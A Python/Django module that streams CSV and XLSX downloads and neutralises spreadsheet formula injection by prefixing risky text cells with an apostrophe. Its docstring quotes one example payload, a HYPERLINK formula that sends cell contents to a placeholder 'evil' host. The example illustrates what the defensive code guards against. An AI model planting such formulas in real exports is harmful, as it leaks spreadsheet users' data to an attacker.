"""Streaming CSV and XLSX export with spreadsheet formulas neutralised (OWASP "CSV injection").

Every export in Helix goes through :func:`export_response`: a header and an iterator of rows in, a
streamed HTTP download out. Rows are written while they are read, so 100,000 rows cost little memory,
and the first bytes leave at once.

Text typed by the public can start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which a
spreadsheet may run as a formula (``=HYPERLINK("http://evil/?"&B2)``). Such text cells are prefixed with
an apostrophe, as OWASP advises; numbers (``int``, ``float``, ``Decimal``) stay numbers. The reader
(:mod:`helix.core.tabular.reading`) removes that apostrophe again, so an export imports back unchanged.
"""

from __future__ import annotations

import csv
import datetime
import math
import re
import zipfile
from collections.abc import Iterable, Iterator
from decimal import Decimal
from xml.sax.saxutils import escape

from django.http import StreamingHttpResponse
from django.utils.http import content_disposition_header
from django.utils.text import slugify

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_SET = frozenset(FORMULA_TRIGGERS)
FORMATS = ("csv", "xlsx")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
# Characters XML 1.0 (and so XLSX) cannot hold; dropped from both formats so they match.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def neutralise(value) -> str | int | float | Decimal:
    """The value as a cell: numbers unchanged, anything else as text that no spreadsheet runs as a formula."""
    if value.__class__ is str:  # the common case first: exports write 100,000s of cells
        text = _ILLEGAL.sub("", value)
    elif value is None:
        return ""
    elif isinstance(value, bool):
        text = str(value)
    elif isinstance(value, int) or (isinstance(value, float | Decimal) and math.isfinite(value)):
        return value
    elif isinstance(value, datetime.datetime | datetime.date | datetime.time):
        text = value.isoformat()
    else:
        text = _ILLEGAL.sub("", str(value))
    if text[:1] in _TRIGGER_SET:
        return "'" + text
    return text


def _neutral_row(row: Iterable) -> list:
    return [neutralise(value) for value in row]


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_stream(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """Lines of CSV; starts with a BOM so Excel opens UTF-8 accents correctly."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow(_neutral_row(header))
    for row in rows:
        yield writer.writerow(_neutral_row(row))


class _Sink:
    """A write-only, unseekable file: zipfile then writes data descriptors and we hand out the bytes."""

    def __init__(self) -> None:
        self.parts: list[bytes] = []

    def write(self, data: bytes) -> int:
        self.parts.append(bytes(data))
        return len(data)

    def flush(self) -> None:
        pass

    def drain(self) -> bytes:
        data, self.parts = b"".join(self.parts), []
        return data


_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_CONTENT_TYPES = (
    _XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    _XML + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    _XML + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    _XML + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_START = _XML + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_END = "</sheetData></worksheet>"


def _xlsx_cell(value) -> str:
    if value.__class__ is str:
        text = escape(value)
        if "\r" in text:  # as a character reference: XML readers turn a literal CR into a line feed
            text = text.replace("\r", "&#13;")
        return f'<c t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
    return f"<c><v>{value}</v></c>"  # a number; neutralise() let nothing else through


def _xlsx_row(values: Iterable) -> str:
    return "<row>" + "".join(_xlsx_cell(value) for value in _neutral_row(values)) + "</row>"


def sheet_name(title: str) -> str:
    """A valid worksheet name: no []:*?/\\ and at most 31 characters."""
    return _SHEET_NAME_FORBIDDEN.sub(" ", _ILLEGAL.sub("", str(title))).strip()[:31] or "Sheet1"


def xlsx_stream(header: Iterable, rows: Iterable[Iterable], *, title: str = "") -> Iterator[bytes]:
    """An .xlsx workbook (one sheet of text and number cells, never a formula) produced while rows are read.

    Written directly as SpreadsheetML in a zip so memory stays flat for 100,000 rows (openpyxl's
    write-only mode must finish the file before sending it and is several times slower).
    """
    sink = _Sink()
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=5) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(name=escape(sheet_name(title), {'"': "&quot;"})))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write((_SHEET_START + _xlsx_row(header)).encode())
            buffer: list[str] = []
            for row in rows:
                buffer.append(_xlsx_row(row))
                if len(buffer) == 500:
                    sheet.write("".join(buffer).encode())
                    buffer = []
                    yield sink.drain()
            sheet.write(("".join(buffer) + _SHEET_END).encode())
    yield sink.drain()


def export_filename(*parts, file_format: str) -> str:
    """``helix-organisations-2026-05-04.csv``: the parts slugified (ASCII, no quotes or slashes)."""
    stem = "-".join(filter(None, (slugify(str(part)) for part in parts))) or "export"
    return f"{stem[:120]}.{file_format}"


def export_response(
    *,
    header: Iterable,
    rows: Iterable[Iterable],
    file_format: str,
    filename: str,
    title: str = "",
    actor=None,
    target=None,
) -> StreamingHttpResponse:
    """A streamed CSV or XLSX download of ``header`` then ``rows``; ``filename`` from :func:`export_filename`.

    ``rows`` is consumed lazily while the response is sent (a generator over ``.iterator()`` keeps
    memory flat). ``title`` names the XLSX sheet. With ``actor`` (the signed-in user) the export is
    written to the audit log, about ``target`` (the event, wheel… exported; the file name otherwise).
    """
    if file_format not in FORMATS:
        raise ValueError(f"unknown export format {file_format!r}")
    if actor is not None:
        from helix.core import audit  # a model module: imported when used

        audit.record(actor, audit.Action.EXPORTED, target or filename, file=filename, format=file_format)
    if file_format == "csv":
        content = csv_stream(header, rows)
    else:
        content = xlsx_stream(header, rows, title=title)
    response = StreamingHttpResponse(content, content_type=CONTENT_TYPES[file_format])
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response
